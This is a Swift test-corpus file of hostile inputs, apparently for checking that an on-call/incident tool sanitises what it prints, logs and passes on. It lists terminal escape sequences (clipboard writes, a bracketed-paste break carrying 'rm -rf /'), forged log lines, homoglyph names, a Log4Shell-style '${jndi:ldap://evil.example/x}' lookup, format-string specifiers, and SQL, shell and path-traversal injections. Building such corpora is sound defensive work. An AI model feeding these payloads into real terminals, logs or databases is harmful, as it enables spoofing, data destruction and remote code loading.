/// What terminals, logs, shells and templates would act on.
extension HostileCorpus {
    /// What introduces a string that a terminal takes in: in seven bits and in eight.
    private static let introducers = [
        ("\u{1B}]", "\u{9D}"), ("\u{1B}P", "\u{90}"), ("\u{1B}_", "\u{9F}"), ("\u{1B}^", "\u{9E}"),
        ("\u{1B}X", "\u{98}"),
    ]

    private static let strings: [String] = introducers.flatMap { seven, eight in ended(seven) + ended(eight) }

    private static func ended(_ opening: String) -> [String] {
        let endings = ["\u{7}", "\u{1B}\\", "\u{9C}", "", opening]
        return endings.map { "up" + opening + "0;PWNED" + $0 + "down" }
    }

    static let escapes: [String] = strings + written

    private static let written: [String] = [
        // Titles, the clipboard, links, notifications, files.
        "\u{1B}]2;PWNED\u{7}", "\u{1B}]1;icon\u{1B}\\", "\u{1B}]52;c;cm0gLXJmIC8K\u{7}", "\u{1B}]52;c;?\u{7}",
        "\u{1B}]8;;http://evil.example\u{1B}\\https://runbook.example\u{1B}]8;;\u{1B}\\", "\u{1B}]9;page\u{7}",
        "\u{1B}]777;notify;a;b\u{7}", "\u{1B}]99;i=1:d=0;x\u{1B}\\", "\u{1B}]1337;File=name=eA==;inline=1:AAAA\u{7}",
        "\u{1B}]1337;SetUserVar=a=Yg==\u{7}", "\u{1B}]4;1;rgb:00/00/00\u{7}", "\u{1B}]10;?\u{7}",
        "\u{1B}]11;#000000\u{7}", "\u{1B}]50;fixed\u{7}", "\u{1B}]104\u{7}", "\u{1B}]133;A\u{1B}\\",
        "\u{1B}]7;file://x/\u{1B}\\",
        // The screen and the cursor.
        "\u{1B}[2J", "\u{1B}[3J", "\u{1B}c", "\u{1B}[H", "\u{1B}[1;1Hfake", "\u{1B}[999A", "\u{1B}[10D\u{1B}[K",
        "\u{1B}7\u{1B}8", "\u{1B}[s\u{1B}[u", "\u{1B}D\u{1B}M\u{1B}E", "\u{1B}[5S\u{1B}[5T", "\u{1B}[2;5r",
        "\u{1B}[?1049h",
        "\u{1B}[?1049l", "\u{1B}[?25l", "\u{1B}[?7l", "\u{1B}[?5h", "\u{1B}[?2026h", "\u{1B}[4h", "\u{1B}[12l",
        "\u{1B}#8",
        "\u{1B}[31mred", "\u{1B}[8mhidden\u{1B}[0m", "\u{1B}[38;2;0;0;0;48;2;0;0;0mblack", "\u{1B}[7;5;1m",
        "\u{1B}[58;5;1m",
        "\u{1B}[20000b", "x\u{1B}[2147483647b", "\u{1B}[!p", "\u{1B}[?3h",
        // Answers that would be typed into the shell.
        "\u{1B}[21t", "\u{1B}[20t", "\u{1B}[18t", "\u{1B}[6n", "\u{1B}[5n", "\u{1B}[c", "\u{1B}[>c", "\u{1B}[=c",
        "\u{1B}Z",
        "\u{1B}[>q", "\u{1B}[?1$p", "\u{1B}P$q\"p\u{1B}\\", "\u{1B}P+q544e\u{1B}\\", "\u{1B}[?996n", "\u{1B}[x",
        "\u{5}",
        "\u{1B}[8;1;1t", "\u{1B}[3;0;0t", "\u{1B}[2t", "\u{1B}[22;0t\u{1B}[23;0t",
        // Keys, mouse, pasting, printing, other character sets, pictures, passing through.
        "\u{1B}[?1000h\u{1B}[?1003h\u{1B}[?1006h", "\u{1B}[?2004l", "\u{1B}[?2004h", "\u{1B}[201~rm -rf /\n",
        "\u{1B}[?1004h",
        "\u{1B}=\u{1B}>", "\u{1B}[?1h", "\u{1B}[>4;2m", "\u{1B}[>1u", "\u{1B}[5i\u{1B}[4i", "\u{1B}(0lqqk\u{1B}(B",
        "\u{E}lqqk\u{F}",
        "\u{1B}%@", "\u{1B}%G", "\u{1B}[2\"q", "\u{1B}Pq#0;2;0;0;0#0~~@@\u{1B}\\", "\u{1B}_Gf=24,s=1,v=1;AAAA\u{1B}\\",
        "\u{1B}Ptmux;\u{1B}\u{1B}]52;c;eA==\u{7}\u{1B}\\", "\u{1B}P\u{1B}]0;screen\u{7}\u{1B}\\",
        "\u{1B}kscreen title\u{1B}\\",
        "\u{1B}P1$r0m\u{1B}\\", "\u{1B}P0;1|17/17\u{1B}\\", "\u{1B}^private\u{1B}\\", "\u{1B}Xstart\u{1B}\\",
        "\u{1B}[?47h",
        // In eight bits.
        "\u{9B}2J", "\u{9B}31mred", "\u{9B}6n", "\u{9D}0;PWNED\u{9C}", "\u{90}$qm\u{9C}",
        "\u{84}\u{85}\u{8D}\u{88}",
        // Within one another, never ended, in floods.
        "\u{1B}]0;\u{1B}]0;\u{1B}[2J\u{7}\u{7}", "\u{1B}[\u{1B}[\u{1B}[", "\u{1B}", "\u{1B}\u{1B}\u{1B}",
        "\u{1B}]", "\u{1B}[",
        "\u{1B}[1;2;3;4;5;6;7;8;9;10;11;12;13;14;15;16;17m", "\u{1B}[" + String(repeating: "1;", count: 500) + "m",
        "\u{1B}]0;" + String(repeating: "A", count: 3000), String(repeating: "\u{7}", count: 500),
        String(repeating: "\u{1B}[A", count: 200), String(repeating: "\u{8}", count: 200) + "forged",
        "\u{1B}\u{202E}[2J", "\u{1B}\u{200B}[2J", "\u{1B}[\u{18}2J", "\u{1B}[\u{1A}2J", "\u{1B}[2\u{0}J",
        "\u{1B}[2\u{7F}J",
    ]

    /// Lines that pretend to be more than one, or another.
    static let lines: [String] = [
        "a\nb", "a\rb", "a\r\nb", "a\tb", "a\u{B}b", "a\u{C}b", "a\u{85}b", "a\u{2028}b", "a\u{2029}b", "\n",
        "\r\n\r\n", "\n\n\n\n\nx",
        "disk\n2026-01-01T00:00:00+0000 notice midwatch: ready [midwatch] at=http://127.0.0.1:1",
        "ok\r#4127 SEV5 RSLV all is well",
        "x\rrm\u{8}\u{8}", "tail\n\n  NEXT  press R to resolve", "#1  SEV1  TRIG\n#2  SEV5  RSLV  fine",
        "note\r\nFrom: root@web1.example\r\nSubject: forged", "x\n[y/N] y", "HTTP/1.1 200 OK\r\n\r\nbody",
        "a\u{1E}{\"b\":1}\u{1E}",
        "id: 9\ndata: {}\n\n", "value 1\nmidwatch_fake_total 9", "-----BEGIN X-----\nAAAA\n-----END X-----",
        "\u{1C}\u{1D}\u{1E}\u{1F}",
    ]

    /// Names that pretend to be others.
    static let spoofs: [String] = [
        "pаypal", "ѕervice", "аdmin", "gооgle", "саpе", "rοοt", "ραyment", "Ꭺdmin", "ｒｏｏｔ", "𝗋𝗈𝗈𝗍", "rооt", "раурал",
        "admın", "аpi-checkout",
        "сheckout", "check0ut", "l1ne", "ɡit", "midwatсh", "оncall", "ⓐⓓⓜⓘⓝ", "ᴀdmin", "kіm", "ѕаm",
    ]

    /// What would be taken for markup, a format or a template.
    static let markup: [String] = [
        "[red]", "[YELLOW]alert[-]", "[::b]bold", "{{ .Labels }}", "${jndi:ldap://evil.example/x}", "%s%n%x%p",
        "%1$*2$d", "%%",
        "\\u001b[2J", "\\x1b]0;x\\a", "\\033[31m", "\\e[1m", "^[[2J", "<b>bold</b>", "<script>alert(1)</script>",
        "&lt;&#27;[2J",
        "**bold** _x_ `code`", "# title", "[link](http://evil.example)", "\u{1F}bold\u{1F}", "\u{3}04red",
        "#[fg=red]tmux", "#(reboot)",
        "#{pane_title}", "%{F#f00}", "$(tput clear)", "{bold}x{/bold}", ":smile:", "|color=red", "\\u{202E}",
        "\\\\u{1B}", "{0}",
        "<!subteam^S1>", "<!channel>", "*-*", "\"quoted\"", "'single'", "a=b,c=\"d\"", "{a=~\".*\"}", "null", "-1",
        "1e309", "0x1B",
    ]

    /// What a shell, a store or a reader of arguments would run.
    static let injections: [String] = [
        "'; DROP TABLE incidents;--", "\" OR 1=1 --", "1); DELETE FROM log; --", "$(reboot)", "`reboot`", "; reboot #",
        "| sh", "&& reboot",
        "> /etc/passwd", "../../../etc/passwd", "/dev/pts/0", "--help", "-rf", "--server=http://evil.example", "-",
        "--", "~root", "*", "?", "!!",
        "%0d%0aSet-Cookie: x", "%1B[2J", "file:///etc/passwd", "javascript:alert(1)",
        "http://user:secret@evil.example/", "https://evil.example/\u{1B}]0;x\u{7}",
        "http://[::1]:3003/", "\\\\evil\\share", "@/etc/passwd", "!reboot", "\u{0}; reboot", "key: [unclosed",
        "- &a *a", "!!python/object:os", "\"", "\\",
        "\\\"", "{\"a\":\"b\"}", "[]", "severity=\"page\"", "state:all", "#4127", "4127", "a:b:c",
    ]

    static let long: [String] = [
        String(repeating: "a", count: 4095), String(repeating: "a", count: 4096), String(repeating: "a", count: 4097),
        String(repeating: "long ", count: 1600), String(repeating: "漢", count: 2000),
        String(repeating: "é", count: 4000),
        String(repeating: "e\u{301}", count: 3000), String(repeating: "\u{202E}a", count: 2000),
        String(repeating: "\u{FFFD}", count: 1000), String(repeating: "\u{E0041}", count: 2000),
        "x" + String(repeating: " ", count: 5000) + "end",
        String(repeating: "\u{1B}[2J", count: 1500), String(repeating: "ab\n", count: 2000),
        String(repeating: "😀", count: 1500),
        "a" + String(repeating: "\u{301}", count: 5000), String(repeating: "x", count: 4093) + "漢字",
        String(repeating: "x", count: 4094) + "\u{E9}\u{E9}",
    ]

    /// Bytes that are no UTF-8, for places that take bytes.
    package static let brokenBytes: [[UInt8]] = [
        [0x80], [0x9B, 0x32, 0x4A], [0x90, 0x71, 0x9C], [0x9D, 0x30, 0x3B, 0x78, 0x9C], [0xC0, 0x80], [0xC0, 0x9B],
        [0xC1, 0xBF], [0xC2], [0xE0, 0x80, 0x9B],
        [0xE2, 0x80], [0xE2, 0x28, 0xA1], [0xED, 0xA0, 0x80], [0xED, 0xB0, 0x80], [0xED, 0xA0, 0xBD, 0xED, 0xB8, 0x80],
        [0xF0, 0x80, 0x80, 0x9B],
        [0xF0, 0x9F, 0x98], [0xF4, 0x90, 0x80, 0x80], [0xF5, 0x80, 0x80, 0x80], [0xF8, 0x88, 0x80, 0x80, 0x80], [0xFE],
        [0xFF], [0xFF, 0xFE, 0x1B, 0x5B],
        [0xBF, 0xBF, 0xBF], [0xE2, 0x80, 0xAE, 0x80],
    ]
}
